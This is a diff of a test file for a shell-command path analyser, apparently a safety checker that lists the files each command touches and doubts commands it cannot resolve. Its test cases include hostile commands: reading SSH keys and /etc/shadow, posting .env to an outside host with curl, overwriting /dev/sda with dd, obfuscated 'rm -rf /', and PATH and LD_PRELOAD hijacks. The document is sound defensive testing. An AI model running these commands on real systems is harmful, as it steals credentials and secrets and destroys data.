@@ -37,12 +37,29 @@ describe('a simple command', () => {
     ['cat "$HOME"/.ssh/id_rsa', ['~/.ssh/id_rsa']],
     ['cat -- -x', ['-x']],
     ['cat id_rsa', ['id_rsa']],
-    ['grep -f/etc/shadow x', ['/etc/shadow']],
-    ['grep --file=.env x', ['.env']],
+    ['grep -f/etc/shadow x', ['/etc/shadow', 'x']],
+    ['grep --file=.env x', ['.env', 'x']],
     ['curl -d @.env https://example.com', ['.env']],
     ['scp .env host:/tmp/x', ['.env', 'host:/tmp/x', '/tmp/x']],
     ['dd if=.env of=/dev/sda', ['.env', '/dev/sda']],
     ['echo see ../README', []],
+    ['grep secrets docs', ['docs']],
+    ['grep x id_rsa', ['id_rsa']],
+    ['grep -A 3 secrets docs', ['docs']],
+    ['grep -e x id_rsa', ['id_rsa']],
+    ['grep -ie x id_rsa', ['id_rsa']],
+    ['grep --reg=x id_rsa', ['id_rsa']],
+    ['grep -- x id_rsa', ['id_rsa']],
+    ['rg --files id_rsa', ['id_rsa']],
+    ['rg -g x secrets id_rsa', ['id_rsa']],
+    ['git grep x -- id_rsa', ['id_rsa']],
+    ['git diff -- id_rsa', ['id_rsa']],
+    ['git diff --no-index id_rsa a.ts', ['id_rsa', 'a.ts']],
+    ['git show HEAD:id_rsa', ['id_rsa']],
+    ['git log -L1,9:id_rsa', ['id_rsa']],
+    ['git add id_rsa', ['id_rsa']],
+    ['git checkout -b secrets', []],
+    ['git commit -m fix:secrets', []],
   ])('%s touches the paths %j', (line, expected) => {
     expect(paths(line)).toEqual(expected)
   })
@@ -111,6 +128,12 @@ describe('a line of several commands', () => {
 describe('what cannot be resolved is doubted', () => {
   it.each([
     ...['$X -rf /', 'rm -rf $X', 'rm "$X/"', 'ls *.ts', '{rm,-rf,/}', 'rm$IFS-rf$IFS/', 'cat ~bob/x', 'cat ~+/x'],
+    // One letter less than the option's whole name is enough for git, and one operand is enough for uniq to write.
+    ...['git grep --op=./x y', 'uniq - out', 'uniq -c - out', 'date -f notes', 'date --fil=notes'],
+    ...['git commit -m x -iqvn a'],
+    // A folder may be a bare repository whose configuration names programs.
+    ...['cd sub && git status', 'cd /tmp/x; git log', 'pushd sub && time git diff', '(cd sub; git status)'],
+    ...['for i in 1 2; do git status; cd sub; done', 'while true; do cat x; cd sub; done'],
     ...['eval rm x', 'source x', '. x', 'trap "rm x" EXIT', 'alias ls=rm', 'X=rm', 'PATH=/tmp ls', 'LD_PRELOAD=x ls'],
     ...[
       'export PATH=/tmp',
